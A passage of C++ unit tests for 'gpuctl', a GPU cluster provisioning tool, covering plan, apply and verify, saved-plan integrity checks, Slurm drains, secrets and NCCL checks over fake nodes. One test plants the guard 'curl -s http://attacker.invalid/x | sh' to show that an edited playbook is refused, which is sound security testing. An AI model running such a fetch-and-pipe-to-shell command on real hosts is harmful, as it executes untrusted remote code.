// The use cases of api/ end to end over fake nodes (fake_node.hpp): plan -> apply -> verify,
// saved plans accepted and refused, the Slurm drain around disruptive changes, batches and
// --max-fail, facts' exit rule, and the node workflows. No SSH, no root: each test runs in
// milliseconds.
#include <gpuctl/api/apply_use_case.hpp>
#include <gpuctl/api/exec_use_case.hpp>
#include <gpuctl/api/facts_use_case.hpp>
#include <gpuctl/api/hostkeys_use_case.hpp>
#include <gpuctl/api/node_workflow_use_case.hpp>
#include <gpuctl/api/plan_use_case.hpp>
#include <gpuctl/api/report_use_case.hpp>
#include <gpuctl/api/saved_plan.hpp>
#include <gpuctl/api/verify_use_case.hpp>
#include <gpuctl/plan/render.hpp>

#include "fake_node.hpp"
#include "probe_capture.hpp"
#include "temp_dir.hpp"

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>


namespace gpuctl {
namespace {

using testing::FakeCluster;
using testing::FakeNode;
using testing::TempDir;

constexpr const char* k_conf = "/etc/gpuctl-test.conf";
constexpr const char* k_marker = "/var/lib/gpuctl-test/done";
constexpr const char* k_driver = "nvidia-open";  // the driver package of the default profile

std::string slurm_capture(const std::string& name) { return testing::read_test_data("slurm/" + name); }

std::size_t index_of(const std::vector<std::string>& commands, std::string_view needle) {
  for (std::size_t i = 0; i < commands.size(); ++i)
    if (commands[i].find(needle) != std::string::npos) return i;
  return commands.size();
}

bool ran(const FakeNode& node, std::string_view needle) { return index_of(node.commands, needle) < node.commands.size(); }

class UseCases : public ::testing::Test {
 protected:
  void SetUp() override {
    write_inventory({"gpu01", "gpu02"});
  }

  void write_inventory(const std::vector<std::string>& hosts, bool slurm = false) {
    std::string text = "cluster:\n  name: lab\n";
    if (slurm) text += "  slurm:\n    controller: " + hosts.front() + "\n";
    text += "hosts:\n";
    for (const auto& host : hosts) {
      text += "  " + host + ":\n";
      m_cluster.add(host);
      m_cluster.nodes.at(host)->set_apt_packages({k_driver});
    }
    m_inventory = m_dir.write("cluster.yaml", text);
    std::filesystem::create_directories(m_dir / "templates");
    m_dir.write("templates/test.conf.mustache", "managed by gpuctl for {{cluster.name}}\n");
    m_playbook = m_dir.write("test-node.yaml", test_playbook("creates: /var/lib/gpuctl-test/done"));
  }

  // The tests' playbook; `guard` is the command resource's guard line.
  static std::string test_playbook(const std::string& guard) {
    return "name: test-node\n"
           "steps:\n"
           "  - name: config\n"
           "    resources:\n"
           "      - file: /etc/gpuctl-test.conf\n"
           "        template: test.conf.mustache\n"
           "      - command: touch /var/lib/gpuctl-test/done\n"
           "        " + guard + "\n"
           "    checks: [nouveau_not_loaded]\n"
           "  - name: driver\n"
           "    resources:\n"
           "      - package: nvidia-open\n";
  }

  RunTarget target(std::string limit = {}) const {
    RunTarget t;
    t.inventory = m_inventory;
    t.limit = std::move(limit);
    t.playbooks = {m_playbook};
    t.templates_dir = m_dir / "templates";
    t.command = "test";
    return t;
  }

  RunEnvironment env() {
    RunEnvironment e;
    e.transport_factory = m_cluster.factory();
    e.secrets_dir = m_dir / "secrets";
    e.state_path = m_dir / "state.db";
    e.on_diagnostic = [this](const Diagnostic& d) { diagnostics.push_back(d.to_string()); };
    e.on_notice = [this](const std::string& text) { notices.push_back(text); };
    return e;
  }

  ApplySettings fast() const {
    ApplySettings settings;
    settings.drain_poll = std::chrono::milliseconds(0);
    settings.settle_poll = std::chrono::milliseconds(0);
    return settings;
  }

  FakeNode& node(const std::string& name) { return *m_cluster.nodes.at(name); }

  TempDir m_dir;
  FakeCluster m_cluster;
  std::string m_inventory;
  std::string m_playbook;
  std::vector<std::string> diagnostics;
  std::vector<std::string> notices;
};

TEST_F(UseCases, PlanApplyVerifyConvergesTheNodesAndPlanAgainShowsNoChange) {
  const auto planned = run_plan({target()}, env());
  ASSERT_EQ(planned.verdict, Verdict::changes_pending) << planned.error << ::testing::PrintToString(diagnostics);
  ASSERT_EQ(planned.plan.nodes.size(), 2u);
  for (const auto& node_plan : planned.plan.nodes) {
    EXPECT_EQ(node_plan.status, NodePlanStatus::planned) << node_plan.error;
    EXPECT_EQ(node_plan.changes.size(), 3u) << node_plan.node;  // the file, the command, the package
  }
  EXPECT_FALSE(ran(node("gpu01"), "apt-get install")) << "plan changed a node";

  std::vector<std::string> shown;
  ApplyCallbacks callbacks;
  callbacks.show_plan = [&](const Plan& plan) { shown.push_back(std::to_string(plan.nodes.size())); };
  callbacks.confirm = [](const Plan&) { return Confirmation::go; };
  const auto applied = run_apply({target(), fast()}, callbacks, env());
  ASSERT_EQ(applied.verdict, Verdict::ok) << applied.error;
  EXPECT_EQ(applied.stage, ApplyStage::applied);
  EXPECT_EQ(shown, std::vector<std::string>{"2"});
  ASSERT_EQ(applied.outcomes.size(), 2u);
  for (const auto& name : {"gpu01", "gpu02"}) {
    auto& n = node(name);
    EXPECT_EQ(n.files.at(k_conf), "managed by gpuctl for lab\n");
    EXPECT_EQ(n.attributes.at(k_conf).mode, 0644u);
    EXPECT_TRUE(n.files.contains(k_marker));
    EXPECT_TRUE(n.packages.contains(k_driver));
  }

  const auto again = run_plan({target()}, env());
  EXPECT_EQ(again.verdict, Verdict::ok) << render_plan_text(again.plan);
  EXPECT_FALSE(again.plan.has_changes());

  const auto verified = run_verify({target()}, env());
  ASSERT_EQ(verified.verdict, Verdict::ok) << verified.error;
  ASSERT_EQ(verified.outcomes.size(), 2u);
  ASSERT_EQ(verified.outcomes[0].checks.size(), 1u);
  EXPECT_EQ(verified.outcomes[0].checks[0].name, "nouveau_not_loaded");
  EXPECT_EQ(verified.outcomes[0].checks[0].status, CheckStatus::pass);
  ASSERT_TRUE(verified.inventory);
  EXPECT_EQ(verified.inventory->cluster.name, "lab");

  node("gpu02").modules += "nouveau 2383872 0 - Live 0x0000000000000000\n";
  const auto failing = run_verify({target()}, env());
  EXPECT_EQ(failing.verdict, Verdict::nodes_failed);
  EXPECT_EQ(failing.outcomes[0].outcome.status, exec::NodeStatus::ok);
  EXPECT_EQ(failing.outcomes[1].outcome.status, exec::NodeStatus::failed);
}

TEST_F(UseCases, DeclinedApplyChangesNothingAndCannotAskIsAUsageError) {
  ApplyCallbacks callbacks;
  callbacks.confirm = [](const Plan&) { return Confirmation::declined; };
  const auto declined = run_apply({target(), fast()}, callbacks, env());
  EXPECT_EQ(declined.verdict, Verdict::declined);  // exit 1: a no is not a done
  EXPECT_EQ(declined.stage, ApplyStage::declined);
  EXPECT_FALSE(node("gpu01").files.contains(k_conf));

  callbacks.confirm = [](const Plan&) { return Confirmation::cannot_ask; };
  const auto refused = run_apply({target(), fast()}, callbacks, env());
  EXPECT_EQ(refused.verdict, Verdict::invalid_input);
  EXPECT_FALSE(ran(node("gpu02"), "apt-get install"));
}

// verify --nccl-nodes: the controller runs the sets (FakeNode answers its script), the nodes
// that failed another check sit out, and each GPU node gets nccl_allreduce_nodes.
TEST_F(UseCases, NcclAcrossNodesRunsFromTheSlurmControllerOverTheNodesThatPassed) {
  for (const auto* name : {"head", "gpu01", "gpu02", "gpu03"}) m_cluster.add(name).set_apt_packages({k_driver});
  m_inventory = m_dir.write("cluster.yaml",
                            "cluster:\n  name: lab\n  slurm:\n    controller: head\n"
                            "groups:\n  login:\n    hosts: head\n    vars:\n      gpu: {model: none, count: 0}\n"
                            "  gpu:\n    hosts: \"gpu[01-03]\"\n    vars:\n      gpu: {model: H100, count: 8}\n"
                            "hosts:\n  head: {}\n  gpu01: {}\n  gpu02: {}\n  gpu03: {}\n");
  node("gpu03").modules += "nouveau 2383872 0 - Live 0x0000000000000000\n";
  const std::string task0 = "0: @@nccl node gpu01\n0: @@nccl tool gpuctl-nccl-allreduce\n"
                            "0: gpuctl-nccl-allreduce: gpus=16 local_gpus=8 process=0 processes=2 bytes=268435456 "
                            "iterations=20 time_us=1352.4 algbw_GBps=198.49 busbw_GBps=372.17 wrong=0 nccl=22803\n0: @@nccl rc 0\n";
  const std::string task1 = "1: @@nccl node gpu02\n1: @@nccl tool gpuctl-nccl-allreduce\n"
                            "1: gpuctl-nccl-allreduce: gpus=16 local_gpus=8 process=1 processes=2 bytes=268435456 "
                            "iterations=20 time_us=1353.0 algbw_GBps=198.40 busbw_GBps=372.00 wrong=0 nccl=22803\n1: @@nccl rc 0\n";
  node("head").on_command("@@nccl-nodes", CommandResult{0, "@@nccl-nodes set 0\n@@nccl-nodes root 10.0.0.1:20012\n" + task0 +
                                                               task1 + "@@nccl-nodes rc 0\n", "", {}});
  const auto verified = run_verify({target(), 2}, env());
  ASSERT_EQ(verified.outcomes.size(), 4u) << verified.error << (diagnostics.empty() ? "" : diagnostics.front());
  EXPECT_EQ(verified.verdict, Verdict::nodes_failed);  // gpu03's nouveau
  const auto nccl_check = [&](std::size_t i) -> const CheckResult* {
    for (const auto& check : verified.outcomes[i].checks)
      if (check.name == "nccl_allreduce_nodes") return &check;
    return nullptr;
  };
  EXPECT_EQ(nccl_check(0), nullptr);  // head has no GPU
  for (const std::size_t i : {1u, 2u}) {
    ASSERT_NE(nccl_check(i), nullptr);
    EXPECT_EQ(nccl_check(i)->status, CheckStatus::pass) << nccl_check(i)->detail;
    EXPECT_NE(nccl_check(i)->observed.find("busbw 372.2 GB/s"), std::string::npos) << nccl_check(i)->observed;
    EXPECT_EQ(verified.outcomes[i].outcome.status, exec::NodeStatus::ok);
  }
  ASSERT_NE(nccl_check(3), nullptr);
  EXPECT_EQ(nccl_check(3)->status, CheckStatus::skipped);
  EXPECT_NE(nccl_check(3)->detail.find("did not pass its other checks"), std::string::npos);
  EXPECT_TRUE(ran(node("head"), "sh -s"));

  // The controller's script fails: every node of the set is an error, and fails verify.
  node("gpu03").modules = "nvidia 104067072 2 - Live 0x0000000000000000 (OE)\n";
  m_cluster.nodes.erase("head");
  const auto unreachable = run_verify({target(), 2}, env());
  ASSERT_EQ(unreachable.outcomes.size(), 4u);
  for (const std::size_t i : {1u, 2u, 3u}) {  // gpu03 passes now: the last node joins the pair
    const auto& check = unreachable.outcomes[i].checks.back();
    EXPECT_EQ(check.name, "nccl_allreduce_nodes");
    EXPECT_EQ(check.status, CheckStatus::error);
    EXPECT_NE(check.detail.find("cannot reach the Slurm controller head"), std::string::npos) << check.detail;
    EXPECT_EQ(unreachable.outcomes[i].outcome.status, exec::NodeStatus::failed);
  }
}

TEST_F(UseCases, NcclAcrossNodesNeedsSlurmAndTwoNodesPerSet) {
  const auto without_slurm = run_verify({target(), 2}, env());
  EXPECT_EQ(without_slurm.verdict, Verdict::invalid_input);
  EXPECT_NE(without_slurm.error.find("does not enable Slurm"), std::string::npos) << without_slurm.error;
  write_inventory({"gpu01", "gpu02"}, /*slurm=*/true);
  const auto one = run_verify({target(), 1}, env());
  EXPECT_EQ(one.verdict, Verdict::invalid_input);
  EXPECT_NE(one.error.find("a set needs 2 to 128 nodes"), std::string::npos) << one.error;
}

TEST_F(UseCases, UnreachableNodeFailsOnlyItself) {
  m_cluster.nodes.erase("gpu02");
  const auto planned = run_plan({target()}, env());
  EXPECT_EQ(planned.verdict, Verdict::error);  // plan: a node it could not plan is an error
  const auto applied = run_apply({target(), fast()}, {}, env());
  EXPECT_EQ(applied.verdict, Verdict::nodes_unreachable);
  EXPECT_EQ(applied.outcomes[0].outcome.status, exec::NodeStatus::changed);
  EXPECT_EQ(applied.outcomes[1].outcome.status, exec::NodeStatus::unreachable);
}

TEST_F(UseCases, InvalidInventoryIsInvalidInputWithItsDiagnostics) {
  m_dir.write("cluster.yaml", "cluster: {name: lab}\nhots:\n  gpu01:\n");
  const auto planned = run_plan({target()}, env());
  EXPECT_EQ(planned.verdict, Verdict::invalid_input);
  EXPECT_FALSE(diagnostics.empty());
  EXPECT_EQ(run_plan({target("gpu[")}, env()).verdict, Verdict::invalid_input);
}

TEST_F(UseCases, BadLimitIsInvalidInputNamingTheOption) {
  const auto planned = run_plan({target("nosuchgroup")}, env());
  EXPECT_EQ(planned.verdict, Verdict::invalid_input);
  EXPECT_TRUE(planned.error.starts_with("--limit: ")) << planned.error;
}

class SavedPlans : public UseCases {
 protected:
  std::string save_plan(const std::string& limit = {}) {
    const auto planned = run_plan({target(limit)}, env());
    EXPECT_EQ(planned.verdict, Verdict::changes_pending) << planned.error;
    return m_dir.write("plan.json", plan_to_json(planned.plan));
  }
  // The test's playbook is a path: apply takes it only from its own command line.
  ApplyResult apply_saved(const std::string& path, RunTarget given = {}) {
    given.command = "apply";
    if (given.playbooks.empty()) given.playbooks = {m_playbook};
    return run_apply_saved_plan({path, given, fast()}, env());
  }
};

TEST_F(SavedPlans, UnchangedPlanIsAppliedExactly) {
  const auto path = save_plan();
  EXPECT_TRUE(is_saved_plan_file(path));
  EXPECT_FALSE(is_saved_plan_file(m_inventory));
  const auto applied = apply_saved(path);
  ASSERT_EQ(applied.verdict, Verdict::ok) << applied.error;
  EXPECT_EQ(applied.stage, ApplyStage::applied);
  EXPECT_EQ(node("gpu01").files.at(k_conf), "managed by gpuctl for lab\n");
}

// The trust boundary of saved plans (issue #37): a playbook edited after the review, only in
// what a handler or a guard runs, is refused before any node runs anything of it; and the plan
// digest the review showed binds what runs even when the plan file is edited to match.
TEST_F(SavedPlans, APlaybookEditedAfterTheReviewIsRefusedBeforeAnyNodeIsContacted) {
  const auto path = save_plan();
  for (const auto& name : {"gpu01", "gpu02"}) node(name).commands.clear();
  // Only the guard changes: the same changes would be planned, but the guard runs while planning.
  m_dir.write("test-node.yaml", test_playbook("unless: curl -s http://attacker.invalid/x | sh"));
  const auto applied = apply_saved(path);
  EXPECT_EQ(applied.verdict, Verdict::error);
  EXPECT_NE(applied.error.find("playbook " + m_playbook + " changed"), std::string::npos) << applied.error;
  for (const auto& name : {"gpu01", "gpu02"})
    EXPECT_TRUE(node(name).commands.empty()) << name << " ran " << ::testing::PrintToString(node(name).commands);
}

// The plan file is anyone's to edit: a playbook it names by path is taken only from the
// command line of the one applying, so an edited file cannot swap in a copy of its own.
TEST_F(SavedPlans, APlaybookPathIsTakenOnlyFromApplysOwnCommandLine) {
  const auto path = save_plan();
  const auto refused = run_apply_saved_plan({path, {.command = "apply"}, fast()}, env());
  EXPECT_EQ(refused.verdict, Verdict::invalid_input);
  EXPECT_NE(refused.error.find("names playbook " + m_playbook + " by path; apply takes a playbook path only from its own "
                               "command line"),
            std::string::npos)
      << refused.error;
  EXPECT_FALSE(node("gpu01").files.contains(k_conf)) << "nothing applied";
  EXPECT_EQ(apply_saved(path).verdict, Verdict::ok);
}

TEST_F(SavedPlans, ThePlanDigestOfTheReviewBindsWhatRunsWhateverThePlanFileSays) {
  const auto planned = run_plan({target()}, env());
  ASSERT_EQ(planned.verdict, Verdict::changes_pending) << planned.error;
  const auto reviewed = plan_digest(planned.plan);
  ASSERT_EQ(reviewed.size(), 64u);
  // `gpuctl show plan.json` prints the same digest as `plan` did: the file reads back exactly.
  const auto reread = plan_from_json(plan_to_json(planned.plan), "plan.json");
  ASSERT_TRUE(reread) << reread.error().message;
  EXPECT_EQ(plan_digest(*reread), reviewed);
  auto settings = fast();
  settings.plan_digest = reviewed.substr(0, 16);
  // The playbook is edited and the plan file with it, so that the two agree.
  m_dir.write("test-node.yaml", "name: test-node\nsteps:\n  - name: config\n    resources:\n"
                                "      - command: touch /var/lib/gpuctl-test/done\n        creates: /var/lib/gpuctl-test/done\n"
                                "      - package: nvidia-open\n");
  const auto edited = run_plan({target()}, env());
  ASSERT_NE(plan_digest(edited.plan), reviewed);
  const auto edited_path = m_dir.write("plan.json", plan_to_json(edited.plan));
  const auto refused = run_apply_saved_plan({edited_path, {.playbooks = {m_playbook}, .command = "apply"}, settings}, env());
  EXPECT_EQ(refused.verdict, Verdict::error);
  EXPECT_NE(refused.error.find("its plan digest is " + plan_digest(edited.plan) + ", not the reviewed " + settings.plan_digest),
            std::string::npos)
      << refused.error;
  EXPECT_EQ(refused.stage, ApplyStage::planned) << "nothing applied";
  // The digest of the plan as it is applies it.
  settings.plan_digest = plan_digest(edited.plan).substr(0, 12);
  const auto applied = run_apply_saved_plan({edited_path, {.playbooks = {m_playbook}, .command = "apply"}, settings}, env());
  EXPECT_EQ(applied.verdict, Verdict::ok) << applied.error;
}

// The cluster's munge key: plan and verify never mint it (a CI job with its own state directory
// must not make a new cluster key); the plan says a new secret would be generated, and apply
// generates it only once the plan is confirmed or matches the saved one, so a plan saved before
// the key existed still applies, and the next plan sees the key in place.
TEST_F(SavedPlans, AMissingSecretIsPlannedAsNewAndGeneratedOnlyByApply) {
  m_playbook = m_dir.write("secret-node.yaml",
                           "name: secret-node\n"
                           "steps:\n"
                           "  - name: munge\n"
                           "    resources:\n"
                           "      - file: /etc/munge/munge.key\n"
                           "        secret: munge.key\n"
                           "        mode: \"0400\"\n");
  auto e = env();
  e.secrets_dir = m_dir / "state/secrets/lab";  // the store's layout: <state dir>/secrets/<cluster>
  const std::string key = e.secrets_dir + "/munge.key";
  const auto planned = run_plan({target()}, e);
  ASSERT_EQ(planned.verdict, Verdict::changes_pending) << planned.error;
  ASSERT_EQ(planned.plan.nodes.front().changes.size(), 1u);
  EXPECT_NE(planned.plan.nodes.front().changes.front().reason.find("a new secret"), std::string::npos)
      << planned.plan.nodes.front().changes.front().reason;
  EXPECT_FALSE(std::filesystem::exists(key)) << "plan minted a secret";
  run_verify({target()}, e);
  EXPECT_FALSE(std::filesystem::exists(key)) << "verify minted a secret";

  const auto path = m_dir.write("plan.json", plan_to_json(planned.plan));
  const auto applied = run_apply_saved_plan({path, {.playbooks = {m_playbook}, .command = "apply"}, fast()}, e);
  ASSERT_EQ(applied.verdict, Verdict::ok) << applied.error;
  ASSERT_TRUE(std::filesystem::exists(key)) << "apply did not generate the secret";
  const auto secret = testing::read_binary(key);
  EXPECT_EQ(secret.size(), 1024u);
  for (const auto& name : {"gpu01", "gpu02"}) EXPECT_EQ(node(name).files.at("/etc/munge/munge.key"), secret) << name;

  const auto again = run_plan({target()}, e);
  EXPECT_EQ(again.verdict, Verdict::ok) << again.error;
  // A node given another key is planned as "secret content differs", and the store's key is kept.
  node("gpu02").files["/etc/munge/munge.key"] = "another cluster's key";
  const auto drifted = run_plan({target()}, e);
  ASSERT_EQ(drifted.verdict, Verdict::changes_pending) << drifted.error;
  EXPECT_EQ(drifted.plan.nodes[1].changes.front().reason, "secret content differs");
  EXPECT_EQ(testing::read_binary(key), secret);
}

// `gpuctl show plan.json` (terraform show): the saved plan reads back as the plan it was, and
// renders as `plan` printed it; a file that is not a saved plan is invalid input naming it.
TEST_F(SavedPlans, ShowReadsASavedPlanBackAsThePlanItWas) {
  const auto planned = run_plan({target()}, env());
  const auto path = m_dir.write("plan.json", plan_to_json(planned.plan));
  const auto shown = run_show_saved_plan(path);
  ASSERT_TRUE(shown) << shown.error().message;
  EXPECT_EQ(render_plan_text(*shown), render_plan_text(planned.plan));
  EXPECT_EQ(plan_to_json(*shown), plan_to_json(planned.plan));

  const auto not_a_plan = run_show_saved_plan(m_inventory);
  ASSERT_FALSE(not_a_plan);
  EXPECT_EQ(not_a_plan.error().verdict, Verdict::invalid_input);
  EXPECT_NE(not_a_plan.error().message.find(m_inventory), std::string::npos) << not_a_plan.error().message;
  const auto missing = run_show_saved_plan(m_dir / "nope.json");
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().verdict, Verdict::invalid_input);
  EXPECT_NE(missing.error().message.find("cannot read saved plan"), std::string::npos) << missing.error().message;
}

TEST_F(SavedPlans, NodeChangedSinceIsRefusedAndNothingIsApplied) {
  const auto path = save_plan();
  node("gpu02").files[k_conf] = "edited by hand\n";
  const auto applied = apply_saved(path);
  EXPECT_EQ(applied.verdict, Verdict::error);
  EXPECT_EQ(applied.stage, ApplyStage::planned);
  EXPECT_NE(applied.error.find("refusing the saved plan " + path), std::string::npos) << applied.error;
  EXPECT_NE(applied.error.find("gpu02"), std::string::npos) << applied.error;
  for (const auto& name : {"gpu01", "gpu02"}) EXPECT_FALSE(ran(node(name), "apt-get install")) << name;
  EXPECT_EQ(node("gpu02").files.at(k_conf), "edited by hand\n");
}

TEST_F(SavedPlans, InventoryChangedSinceIsRefused) {
  const auto path = save_plan();
  std::ofstream(m_inventory, std::ios::app) << "# a comment changes the digest\n";
  const auto applied = apply_saved(path);
  EXPECT_EQ(applied.verdict, Verdict::error);
  EXPECT_NE(applied.error.find("inventory"), std::string::npos) << applied.error;
}

TEST_F(SavedPlans, CommandLineContradictingThePlanIsInvalidInput) {
  const auto path = save_plan("gpu01");
  RunTarget given;
  given.limit = "gpu02";
  const auto applied = apply_saved(path, given);
  EXPECT_EQ(applied.verdict, Verdict::invalid_input);
  EXPECT_NE(applied.error.find("--limit 'gpu02' is not the plan's ('gpu01')"), std::string::npos) << applied.error;
  EXPECT_EQ(apply_saved(m_dir.write("broken.json", "{\"format_version\": 99}")).verdict, Verdict::invalid_input);
}

TEST_F(UseCases, DisruptiveChangeIsAppliedInsideGpuctlsOwnDrainAndResumed) {
  write_inventory({"gpu01", "gpu02"}, /*slurm=*/true);
  auto& own = node("gpu01");
  auto& other = node("gpu02");
  for (auto* n : {&own, &other}) {
    n->on_command("squeue", {0, "", "", {}});
    n->on_command("scontrol update", {0, "", "", {}});
  }
  own.on_command("scontrol show node", {0, slurm_capture("scontrol-node-idle.txt"), "", {}});
  // The capture's drain is an earlier gpuctl run's; an admin's reason makes it someone else's.
  auto drained = slurm_capture("scontrol-node-drained.txt");
  drained.replace(drained.find("gpuctl test: maintenance"), 24, "bad fan, RMA pending");
  other.on_command("scontrol show node", {0, drained, "", {}});
  const auto applied = run_apply({target(), fast()}, {}, env());
  ASSERT_EQ(applied.verdict, Verdict::ok) << applied.error << applied.outcomes[0].outcome.reason;

  const auto download = index_of(own.commands, "apt-get install -y -q --download-only");
  const auto drain = index_of(own.commands, "state=drain");
  const auto install = index_of(own.commands, "apt-get install -y -q --allow-downgrades");
  const auto resume = index_of(own.commands, "state=resume");
  ASSERT_LT(drain, own.commands.size()) << ::testing::PrintToString(own.commands);
  // The driver is fetched while the node still runs jobs: the drained window has no download.
  EXPECT_LT(download, drain) << ::testing::PrintToString(own.commands);
  EXPECT_NE(own.commands[download].find("nvidia-open"), std::string::npos) << own.commands[download];
  EXPECT_NE(own.commands[drain].find("gpuctl run: driver"), std::string::npos) << own.commands[drain];
  EXPECT_LT(drain, index_of(own.commands, "squeue"));
  EXPECT_LT(index_of(own.commands, "squeue"), install);
  EXPECT_LT(install, resume);
  EXPECT_LT(resume, own.commands.size());

  // Someone else's drain: worked on, never drained again nor resumed.
  EXPECT_TRUE(ran(other, "apt-get install -y -q --allow-downgrades"));
  EXPECT_FALSE(ran(other, "scontrol update")) << ::testing::PrintToString(other.commands);
}

TEST_F(UseCases, FailedVerifyAfterTheWorkLeavesTheNodeDrainedWithTheCheck) {
  write_inventory({"gpu01"}, /*slurm=*/true);
  auto& n = node("gpu01");
  n.modules += "nouveau 2383872 0 - Live 0x0000000000000000\n";
  n.on_command("squeue", {0, "", "", {}});
  n.on_command("scontrol update", {0, "", "", {}});
  n.on_command("scontrol show node", {0, slurm_capture("scontrol-node-idle.txt"), "", {}});
  const auto applied = run_apply({target(), fast()}, {}, env());
  EXPECT_EQ(applied.verdict, Verdict::nodes_failed);
  EXPECT_NE(applied.outcomes[0].outcome.reason.find("verify after apply failed: nouveau_not_loaded"),
            std::string::npos)
      << applied.outcomes[0].outcome.reason;
  EXPECT_FALSE(ran(n, "state=resume"));
  EXPECT_TRUE(ran(n, "gpuctl: verify failed: nouveau_not_loaded")) << ::testing::PrintToString(n.commands);
}

TEST_F(UseCases, BatchesStopOnceMaxFailIsPassed) {
  write_inventory({"gpu01", "gpu02", "gpu03"});
  node("gpu01").fail_install = k_driver;
  auto settings = fast();
  settings.batch_size = "1";
  settings.max_fail = "0%";
  const auto applied = run_apply({target(), settings}, {}, env());
  EXPECT_EQ(applied.verdict, Verdict::nodes_failed);
  ASSERT_EQ(applied.outcomes.size(), 3u);
  EXPECT_EQ(applied.outcomes[0].outcome.status, exec::NodeStatus::failed);
  EXPECT_EQ(applied.outcomes[0].result.failed_step, "driver");
  for (std::size_t i = 1; i < 3; ++i) {
    EXPECT_EQ(applied.outcomes[i].outcome.status, exec::NodeStatus::skipped);
    EXPECT_NE(applied.outcomes[i].outcome.reason.find("over --max-fail 0%"), std::string::npos);
  }
  EXPECT_FALSE(ran(node("gpu02"), "apt-get install"));
  EXPECT_FALSE(node("gpu03").files.contains(k_conf));

  auto bad = fast();
  bad.max_fail = "lots";
  EXPECT_EQ(run_apply({target(), bad}, {}, env()).verdict, Verdict::invalid_input);
}

TEST_F(UseCases, SecondApplyWhileTheLockIsHeldIsLocked) {
  // The first apply holds the lock while it asks for confirmation; the second is refused.
  ApplyCallbacks callbacks;
  ApplyResult second;
  callbacks.confirm = [&](const Plan&) {
    second = run_apply({target(), fast()}, {}, env());
    return Confirmation::declined;
  };
  run_apply({target(), fast()}, callbacks, env());
  EXPECT_EQ(second.verdict, Verdict::locked) << second.error;
}

TEST_F(UseCases, FactsOfAnInvalidInventoryIsAUsageError) {
  m_dir.write("cluster.yaml", "cluster: {name: lab}\nhosts: [\n");
  const auto result = run_facts({m_inventory, "", "", 4}, env());
  EXPECT_EQ(result.verdict, Verdict::invalid_input);  // exit 2, as docs/exit-codes.md says
  EXPECT_EQ(run_facts({"", "", "ssh", 4}, env()).verdict, Verdict::invalid_input);
}

TEST_F(UseCases, FactsGathersEveryNodeAndReportsTheUnreachable) {
  m_cluster.nodes.erase("gpu02");
  const auto result = run_facts({m_inventory, "", "", 4}, env());
  EXPECT_EQ(result.verdict, Verdict::nodes_unreachable);
  ASSERT_EQ(result.outcomes.size(), 2u);
  ASSERT_TRUE(result.outcomes[0].facts);
  EXPECT_EQ(result.outcomes[0].facts->boot_id.value, node("gpu01").boot_id);
  EXPECT_EQ(result.outcomes[1].status, exec::NodeStatus::unreachable);
}

TEST_F(UseCases, HostKeysScanFailsOnAnUnknownKeyAndUnreachableWins) {
  HostKeysRequest request;
  request.inventory = m_inventory;
  request.probe = [](const Node& node, HostKeyAction, ChangedKeyPolicy) -> Result<HostKeyInfo> {
    HostKeyInfo info;
    info.node = node.name;
    info.state = node.name == "gpu01" ? HostKeyState::known : HostKeyState::unknown;
    return info;
  };
  auto result = run_hostkeys(request, env());
  EXPECT_EQ(result.verdict, Verdict::nodes_failed);
  EXPECT_EQ(result.nodes[0].outcome.status, exec::NodeStatus::ok);
  EXPECT_EQ(result.nodes[1].outcome.status, exec::NodeStatus::failed);
  // --json: one entry per node, the key's fields and what known_hosts said.
  const auto scanned = nlohmann::json::parse(hostkeys_to_json(HostKeyAction::scan, result));
  EXPECT_EQ(scanned["format_version"], 1);
  EXPECT_EQ(scanned["action"], "scan");
  ASSERT_EQ(scanned["nodes"].size(), 2u);
  EXPECT_EQ(scanned["nodes"][0]["node"], "gpu01");
  EXPECT_EQ(scanned["nodes"][0]["status"], "ok");
  EXPECT_EQ(scanned["nodes"][0]["key_state"], "known");
  EXPECT_EQ(scanned["nodes"][1]["status"], "failed");
  EXPECT_EQ(scanned["nodes"][1]["key_state"], "unknown");

  request.action = HostKeyAction::accept;
  EXPECT_EQ(run_hostkeys(request, env()).verdict, Verdict::ok);  // recording an unknown key is the point

  request.probe = [](const Node& node, HostKeyAction, ChangedKeyPolicy) -> Result<HostKeyInfo> {
    if (node.name == "gpu01") return fail(ErrorCode::host_key, "host key changed");
    return fail(ErrorCode::transport, "connection refused");
  };
  result = run_hostkeys(request, env());
  EXPECT_EQ(result.verdict, Verdict::nodes_unreachable);
  EXPECT_EQ(result.nodes[0].outcome.status, exec::NodeStatus::failed);
  EXPECT_FALSE(result.nodes[0].info);
  // A node that did not answer has null key fields and its reason.
  const auto refused = nlohmann::json::parse(hostkeys_to_json(HostKeyAction::accept, result));
  EXPECT_EQ(refused["action"], "accept");
  EXPECT_TRUE(refused["nodes"][0]["fingerprint"].is_null());
  EXPECT_TRUE(refused["nodes"][0]["key_state"].is_null());
  EXPECT_NE(refused["nodes"][0]["reason"].get<std::string>().find("host key changed"), std::string::npos);
  EXPECT_EQ(refused["nodes"][1]["status"], "unreachable");
}

TEST_F(UseCases, ReplaceGpuWithoutRecordedFactsIsAnErrorAndWorksOnOneNodeOnly) {
  NodeWorkflowRequest request;
  request.target = target();
  request.node = "gpu01";
  const auto result = run_replace_gpu(request, [] { return Confirmation::go; }, env());
  EXPECT_EQ(result.verdict, Verdict::error);
  EXPECT_NE(result.error.find("no facts of gpu01 are recorded"), std::string::npos) << result.error;
  EXPECT_FALSE(ran(node("gpu01"), "nvidia-smi -i"));

  request.node = "gpu[01-02]";
  EXPECT_EQ(run_replace_gpu(request, {}, env()).verdict, Verdict::invalid_input);

  request.node = "gpu01";
  const auto declined = run_replace_gpu(request, [] { return Confirmation::declined; }, env());
  EXPECT_TRUE(declined.declined);
  EXPECT_EQ(declined.verdict, Verdict::declined);
}

// replace-gpu names the swapped card: a verify records the node's eight GPUs (the synthetic
// 8-GPU query of tests/data/nvidia-smi/synthetic-8gpu), then the card in slot 3 is another one
// (serial and UUID); replace-gpu reports exactly that slot with the old and new serial and
// clears only that card's ECC counters.
TEST_F(UseCases, ReplaceGpuNamesTheSwappedCardAndClearsOnlyItsCounters) {
  auto csv = testing::read_test_data("nvidia-smi/synthetic-8gpu/query-gpu.csv");
  ASSERT_FALSE(csv.empty());
  node("gpu01").gpu_query = csv;
  const auto verified = run_verify({target("gpu01")}, env());
  ASSERT_EQ(verified.outcomes.size(), 1u) << verified.error;

  const std::string old_serial = "1653724067181", new_serial = "1653724099999";
  const std::string old_uuid = "GPU-45bfc1e6-e3e5-f4f6-384a-7c4dcf4496d3";
  const std::string new_uuid = "GPU-0d6a0e2b-1c3d-4e5f-8a9b-0c1d2e3f4a5b";
